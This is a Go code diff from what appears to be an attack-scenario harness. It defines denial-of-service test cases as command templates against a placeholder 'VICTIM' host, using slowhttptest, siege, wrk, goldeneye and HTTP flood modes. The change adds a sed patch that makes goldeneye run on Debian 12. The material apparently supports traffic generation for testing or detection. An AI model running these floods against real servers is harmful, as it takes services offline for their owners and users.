@@ -16,6 +16,8 @@ func floods() []Scenario {
 		return Scenario{Name: name, Class: attack.DoS, Also: []attack.Class{attack.DDoS}, Limit: 45 * time.Second, Near: near,
 			Play: func(ctx context.Context, r *Run) error { return floodOne(ctx, r, line) }}
 	}
+	// Debian 12's goldeneye divides where its Python wants whole numbers.
+	const goldeneye = "sed 's:/2):\\/\\/2):' /usr/bin/goldeneye > ge.py; timeout SECS /usr/bin/python3 ge.py http://VICTIM/ -w 2 -s WORKERS -m random"
 	return []Scenario{
 		row("slow-headers", false, "slowhttptest -H -c CONNS -r RATE -i GAP -l LENGTH -u http://VICTIM/"),
 		row("slow-body", false, "slowhttptest -B -c CONNS -r RATE -i GAP -l LENGTH -s 8192 -u http://VICTIM/comment"),
@@ -31,7 +33,7 @@ func floods() []Scenario {
 		row("wrk", true, "wrk -t 1 -c WORKERS -d SECSs http://VICTIM/login"),
 		row("wrk-close", true, "wrk -t 1 -c WORKERS -d SECSs -H 'Connection: close' http://VICTIM/terms"),
 		row("siege", true, "siege -q -b -c WORKERS -t SECSS http://VICTIM/"),
-		row("goldeneye", true, "timeout SECS goldeneye http://VICTIM/ -w 2 -s WORKERS -m random"),
+		row("goldeneye", true, goldeneye),
 		row("hulk", true, "SELF flood -url http://VICTIM/search -workers WORKERS -rate 20 -for SECSs -seed SEED"),
 		row("hulk-keep", true, "SELF flood -url http://VICTIM/ -keep -workers WORKERS -rate 20 -for SECSs -seed SEED"),
 		row("post-flood", true, "SELF flood -url http://VICTIM/comment -post -workers WORKERS -rate 15 -for SECSs -seed SEED"),
